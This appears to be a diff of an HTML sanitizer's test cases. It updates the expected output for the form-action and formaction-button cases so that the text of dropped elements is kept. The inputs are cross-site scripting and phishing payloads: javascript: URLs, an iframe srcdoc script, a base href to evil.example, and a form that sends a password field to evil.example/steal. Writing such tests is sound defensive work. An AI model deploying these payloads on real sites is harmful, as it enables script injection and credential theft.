@@ -85,8 +85,9 @@ CASES = [
     ("base href", '<base href="https://evil.example/"><a href="x">t</a>', f'<a href="{E}x">t</a>'),
     ("meta refresh", '<meta http-equiv="refresh" content="0;url=javascript:alert(1)"><p>t</p>', "<p>t</p>"),
     ("meta csp", "<meta http-equiv=\"Content-Security-Policy\" content=\"script-src *\"><p>t</p>", "<p>t</p>"),
-    ("form action", '<form action="https://evil.example/steal"><p>Name</p><input name="pass"><button>Send</button></form>', "<p>Name</p>"),
-    ("formaction button", f'<button formaction="javascript:{S}">b</button><p>t</p>', "<p>t</p>"),
+    ("form action", '<form action="https://evil.example/steal"><p>Name</p><input name="pass"><button>Send</button></form>', "<p>Name</p>Send"),
+    # A button is dropped, its text kept (the contract keeps the text of dropped elements).
+    ("formaction button", f'<button formaction="javascript:{S}">b</button><p>t</p>', "b<p>t</p>"),
     ("iframe srcdoc", f'<iframe srcdoc="<script>{S}</script>"></iframe><p>t</p>', "<p>t</p>"),
     ("iframe javascript src", f'<iframe src="javascript:{S}"></iframe><p>t</p>', "<p>t</p>"),
     ("object data", f'<object data="javascript:{S}"></object><p>t</p>', "<p>t</p>"),
